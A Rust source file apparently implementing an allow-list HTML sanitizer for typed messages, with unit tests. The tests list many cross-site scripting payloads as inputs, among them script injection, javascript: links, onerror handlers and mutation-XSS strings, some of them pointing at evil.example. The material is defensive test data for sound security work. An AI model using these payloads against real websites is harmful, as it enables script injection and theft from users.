//! HTML of a message that somebody typed, without what no message may do to its reader. What is kept is a list: all
//! else is taken out.

use std::borrow::Cow;
use std::collections::HashSet;
use std::sync::LazyLock;

use ammonia::{Builder, UrlRelative};

/// Texts, links, lists, tables and images.
const TAGS: &str = "\
    a abbr b big blockquote br caption center cite code col colgroup dd del div dl dt em font h1 h2 h3 \
    h4 h5 h6 hr i img ins kbd li ol p pre q s small span strike strong sub sup table tbody td tfoot th \
    thead tr tt u ul";

/// Elements that are removed together with their content.
const WITH_CONTENT: &str = "\
    applet audio button canvas embed frameset iframe math noembed noframes noscript object script select \
    style svg template textarea title video xmp";

const ATTRIBUTES: &str = "\
    align bgcolor dir height lang style title valign width";

const OF_TAGS: [(&str, &str); 10] = [
    ("a", "href"),
    ("col", "span"),
    ("colgroup", "span"),
    ("font", "color face size"),
    ("hr", "size"),
    ("img", "alt border src"),
    ("ol", "start"),
    ("table", "border cellpadding cellspacing"),
    ("td", "colspan rowspan"),
    ("th", "colspan rowspan scope"),
];

/// None of them loads anything, or places a part over others.
const STYLES: &str = "\
    background-color border border-bottom border-bottom-color border-bottom-style border-bottom-width \
    border-collapse border-color border-left border-left-color border-left-style border-left-width \
    border-radius border-right border-right-color border-right-style border-right-width border-spacing \
    border-style border-top border-top-color border-top-style border-top-width border-width color \
    direction display font font-family font-size font-style font-variant font-weight height \
    letter-spacing line-height list-style-type margin margin-bottom margin-left margin-right margin-top \
    max-width padding padding-bottom padding-left padding-right padding-top text-align text-decoration \
    vertical-align width";

const LINKS: [&str; 4] = ["http", "https", "mailto", "tel"];
/// Images that come from elsewhere, with the message, or in it.
const IMAGES: [&str; 6] =
    ["https:", "cid:", "data:image/gif;", "data:image/jpeg;", "data:image/png;", "data:image/webp;"];

static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::empty();
    builder
        .tags(words(TAGS))
        .clean_content_tags(words(WITH_CONTENT))
        .generic_attributes(words(ATTRIBUTES))
        .tag_attributes(OF_TAGS.into_iter().map(|(tag, names)| (tag, words(names))).collect())
        .filter_style_properties(words(STYLES))
        .url_schemes(LINKS.into_iter().chain(["cid", "data"]).collect())
        .url_relative(UrlRelative::Deny)
        .link_rel(None)
        .strip_comments(true)
        .attribute_filter(attribute);
    builder
});

fn words(list: &'static str) -> HashSet<&'static str> {
    list.split(' ').collect()
}

/// The scheme that fits a link does not fit an image, nor the other way about; no style loads anything.
fn attribute<'a>(tag: &str, name: &str, value: &'a str) -> Option<Cow<'a, str>> {
    let begins = |schemes: &[&str]| {
        let value = value.trim_start().to_ascii_lowercase();
        schemes.iter().any(|scheme| value.starts_with(scheme))
    };
    let is_kept = match (tag, name) {
        ("a", "href") => LINKS.iter().any(|scheme| begins(&[&format!("{scheme}:")])),
        ("img", "src") => begins(&IMAGES),
        // An escape can stand for any letter.
        (_, "style") => !value.contains('\\') && !value.to_ascii_lowercase().contains("url("),
        _ => true,
    };
    is_kept.then_some(value.into())
}

/// What of it may stand in a message, as HTML that is closed in itself.
pub fn sanitized_html(html: &str) -> String {
    CLEANER.clean(html).to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_message_needs_is_kept() {
        for html in [
            "<p style=\"color:green;margin:0 auto\">Nordhavn <b>A/S</b> · København</p>",
            "<table width=\"600\" cellpadding=\"0\" style=\"border-collapse:collapse\"><tbody><tr><td colspan=\"2\" align=\"left\">a</td></tr></tbody></table>",
            "<a href=\"https://nordhavn.example/?a=1&amp;b=2\">x</a><a href=\"mailto:ops@nordhavn.example\">y</a><a href=\"tel:+4512345678\">z</a>",
            "<img src=\"https://nordhavn.example/logo.png\" alt=\"Nordhavn\" width=\"120\">",
            "<img src=\"cid:logo@nordhavn.example\"><img src=\"data:image/png;base64,iVBORw0KGgo=\">",
            "<font color=\"#333\" face=\"Arial\" size=\"2\">a</font><br>a &amp; b &lt; c",
        ] {
            assert_eq!(sanitized_html(html), html);
        }
    }

    #[test]
    fn what_a_message_must_not_do_is_taken_out() {
        for (typed, kept) in [
            ("a<script>alert(1)</script>b", "ab"),
            ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>b", "b"),
            ("<meta http-equiv=refresh content='0;url=https://evil.example'>b", "b"),
            ("<base href='https://evil.example/'><a href='/x'>b</a>", "<a>b</a>"),
            ("<iframe src='https://evil.example'>a</iframe>b", "b"),
            ("<object data=x><embed src=x></object>b", "b"),
            ("<form action='https://evil.example'><input name=p type=password>b<button>c</button></form>", "b"),
            ("<link rel=stylesheet href='https://evil.example/x.css'>b", "b"),
            ("<style>body{display:none}</style>b", "b"),
            ("<p onclick='alert(1)' onmouseover=alert(1)>b</p>", "<p>b</p>"),
            ("<img src=x onerror=alert(1)>b", "<img>b"),
            ("<img src='http://evil.example/x.png'>b", "<img>b"),
            ("<img src='data:image/svg+xml,<svg onload=alert(1)>'>b", "<img>b"),
            ("<img srcset='https://evil.example/x 1x'>b", "<img>b"),
            ("<svg onload=alert(1)><script>alert(1)</script></svg>b", "b"),
            ("<math><mi xlink:href='javascript:alert(1)'></math>b", "b"),
            ("<a href='javascript:alert(1)'>b</a>", "<a>b</a>"),
            ("<a href=' JaVaScRiPt:alert(1)'>b</a>", "<a>b</a>"),
            ("<a href='java&#9;script:alert(1)'>b</a>", "<a>b</a>"),
            ("<a href='&#106;avascript:alert(1)'>b</a>", "<a>b</a>"),
            ("<a href='data:text/html,<script>alert(1)</script>'>b</a>", "<a>b</a>"),
            ("<a href='vbscript:x' target=_top ping='https://evil.example'>b</a>", "<a>b</a>"),
            ("<p style='position:fixed;top:0;color:red'>b</p>", "<p style=\"color:red\">b</p>"),
            ("<p style='background:url(https://evil.example/x)'>b</p>", "<p>b</p>"),
            ("<p style='color:red;border:u\\72l(https://evil.example/x)'>b</p>", "<p>b</p>"),
            ("<p id=main class=a>b</p>", "<p>b</p>"),
            ("<!--[if mso]><script>alert(1)</script><![endif]-->b", "b"),
            ("</body></html><p>b", "<p>b</p>"),
            ("<html><head><title>a</title></head><body onload=alert(1)>b</body></html>", "b"),
        ] {
            let said = sanitized_html(typed);
            assert_eq!(said, kept, "{typed}");
            assert_eq!(sanitized_html(&said), said, "{typed}: it stays as it is");
        }
        // Read in one way and written in another.
        for typed in [
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        ] {
            let said = sanitized_html(typed);
            assert!(!said.contains("onerror=\""), "{typed}: {said}");
        }
    }
}
